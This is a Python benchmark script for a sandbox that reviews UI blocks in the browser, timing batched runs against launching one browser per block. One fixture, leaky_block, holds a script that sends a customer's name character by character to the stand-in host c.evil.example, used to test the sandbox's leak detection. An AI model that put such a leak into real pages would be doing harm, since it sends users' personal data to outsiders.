"""Benchmark of the in-browser half of `flowui-sandbox review` (bench/review.py has the static half).

Two figures, each against a peer measured in the same run:

* a 5 KB block reviewed in each engine with the browser already running: the time of the
  review itself (mount, screenshots, user actions, state update, the settle window) and,
  beside it, the browser's launch, which a batch pays once;
* a batch of N blocks (default 50) in one run (one browser per engine, pages reused, in
  parallel) against the naive way, a browser launched per block, measured on a sample
  of ``--sample`` blocks and extrapolated to N. The ratio is naive / batch.

    .venv/bin/python bench/review_browser.py [--engine E]... [--blocks 50] [--sample 4]
"""

from __future__ import annotations

import argparse
import asyncio
import os
import statistics
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))

from flowui_sandbox.sandbox.engines import select_engines
from flowui_sandbox.sandbox.harness.server import tls_context
from flowui_sandbox.sandbox.review.browser import review_in_browsers
from flowui_sandbox.sandbox.review.browser.observation import BlockObservation
from flowui_sandbox.sandbox.review.browser.run import SETTLE, Lane
from flowui_sandbox.sandbox.review.model import BlockInput


def block_5kb(i: int) -> BlockInput:
    """A realistic 5 KB block: a styled card with bound values, buttons, an input and a script."""
    rows = "".join(
        f'<tr><td data-bind="order.items.{k}.name"></td><td data-bind="order.items.{k}.qty"></td>'
        f'<td><button class="more" data-k="{k}">+1</button></td></tr>' for k in range(6)
    )
    source = (
        "<style>.card{font:14px system-ui;color:var(--flow-ui-text);background:var(--flow-ui-surface);"
        "border:1px solid var(--flow-ui-border);border-radius:var(--flow-ui-radius-md);padding:12px}"
        "table{width:100%;border-collapse:collapse}td{padding:4px;border-bottom:1px solid var(--flow-ui-border)}"
        "button{background:var(--flow-ui-accent);color:var(--flow-ui-on-accent);border:0;border-radius:4px}</style>"
        f'<div class="card" id="c{i}"><h3>Order <span data-bind="order.id"></span></h3>'
        '<p>Customer: <b data-bind="customer.name"></b> <span data-show="customer.vip">VIP</span></p>'
        f"<table>{rows}</table>"
        '<label>Note <input id="note"></label> <button id="save">Save</button>'
        '<p id="total"></p></div>'
        "<script>\n"
        "const total = () => (flowUi.get('order.items') || []).reduce((s, x) => s + (Number(x.qty) || 0), 0);\n"
        "flowUi.onChange(() => { document.getElementById('total').textContent = 'Items: ' + total(); });\n"
        "document.querySelectorAll('button.more').forEach((b) => b.addEventListener('click', () => {\n"
        "  const k = Number(b.dataset.k); flowUi.send('more', { index: k });\n"
        "}));\n"
        "document.getElementById('save').addEventListener('click', () => {\n"
        "  flowUi.setValue('order.note', document.getElementById('note').value);\n"
        "});\n"
        "</script>\n"
    )
    source += "<!-- " + "padding to 5 KB " * max(0, (5120 - len(source)) // 16) + "-->"
    state = {"order": {"id": f"A-{i}", "note": "", "items": [{"name": f"item {k}", "qty": k} for k in range(6)]},
             "customer": {"name": "Ann", "vip": True}}
    return BlockInput(file=f"block-{i}.html", source=source, fields=["order.note", "order.items"], state=state)


def leaky_block(split: bool) -> BlockInput:
    """A card with a logo from a CDN (no data in it), or one that also sends its name one character per request."""
    source = ('<p>Hi <b data-bind="customer.name"></b></p><img src="https://cdn.example.com/logo.png" alt="">'
              '<button>OK</button>')
    if split:
        source += ("<script>[...String(flowUi.get('customer.name'))].forEach((c, i) => "
                   "{ new Image().src = `https://c.evil.example/s/${i}/${c.charCodeAt(0)}.gif`; });</script>")
    return BlockInput(file="leaky.html", source=source, state={"customer": {"name": "Ann Lee"}})


async def one_block(engine, block: BlockInput, repeat: int) -> tuple[float, list[float]]:
    """Launch time and the review times of ``block`` on a running browser (one page)."""
    from flowui_sandbox.sandbox.review.browser import _work

    _, context = tls_context("127.0.0.1", "localhost")
    started = time.monotonic()
    lane = Lane(engine, context, time_limit=30, slots=1)
    out = await lane.run([_work(i, block) for i in range(repeat + 1)])
    total = time.monotonic() - started
    # The first pays the page's first load; a block the differential review runs again pays its runs too.
    seconds = [_seconds(out[i]) for i in range(1, repeat + 1)]
    runs = [out[i].differential.runs if out[i].differential else 1 for i in range(1, repeat + 1)]
    return total - sum(_seconds(o) for o in out.values()), seconds, runs


def _seconds(obs: BlockObservation) -> float:
    """A block's review, its differential review's runs included."""
    return obs.seconds + (obs.differential.seconds if obs.differential else 0)


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--engine", action="append")
    parser.add_argument("--blocks", type=int, default=50)
    parser.add_argument("--sample", type=int, default=4)
    parser.add_argument("--only-one", action="store_true", help="figures 1 and 3 only (no batch)")
    args = parser.parse_args()
    engines = select_engines(args.engine)
    block = block_5kb(0)
    print(f"block: {len(block.source.encode())} bytes; settle window {SETTLE} s (part of every review)")
    print("\n1. one 5 KB block, browser running (median of 3), and the launch a batch pays once")
    for engine in engines:
        launch_s, seconds, runs = await one_block(engine, block, 3)
        print(f"   {engine.name:<9} review {statistics.median(seconds):5.2f} s   (launch + page {launch_s:5.2f} s; runs {runs})")

    print("\n3. blocks the differential review runs again (median of 3): a benign one with an outside image,"
          " a split leak (one character per request: attribution runs too)")
    for name, leaky in (("outside image", leaky_block(False)), ("split leak", leaky_block(True))):
        for engine in engines:
            _, seconds, runs = await one_block(engine, leaky, 3)
            print(f"   {name:<13} {engine.name:<9} {statistics.median(seconds):5.2f} s   (runs {runs})")
    if args.only_one:
        return

    print(f"\n2. batch of {args.blocks} blocks, engines side by side")
    blocks = [block_5kb(i) for i in range(args.blocks)]
    started = time.monotonic()
    await review_in_browsers(blocks, engines, time_limit=60)
    batch = time.monotonic() - started
    print(f"   batch (one browser per engine, pages reused, 3 at once): {batch:6.1f} s")
    per_block: dict[str, float] = {}

    async def naive(engine) -> None:
        times = []
        for i in range(args.sample):
            t = time.monotonic()
            await review_in_browsers([blocks[i]], [engine], time_limit=60)
            times.append(time.monotonic() - t)
        per_block[engine.name] = statistics.mean(times)

    await asyncio.gather(*(naive(e) for e in engines))
    # Engines side by side, blocks one after another: the slowest engine sets the pace.
    extrapolated = max(per_block.values()) * args.blocks
    for name, s in per_block.items():
        print(f"   naive {name:<9} {s:5.2f} s per block (launch, review, close; sample of {args.sample})")
    print(f"   naive, extrapolated to {args.blocks} blocks: {extrapolated:6.1f} s")
    print(f"   ratio naive / batch: {extrapolated / batch:4.1f}x (target >= 5x)")


if __name__ == "__main__":
    asyncio.run(main())
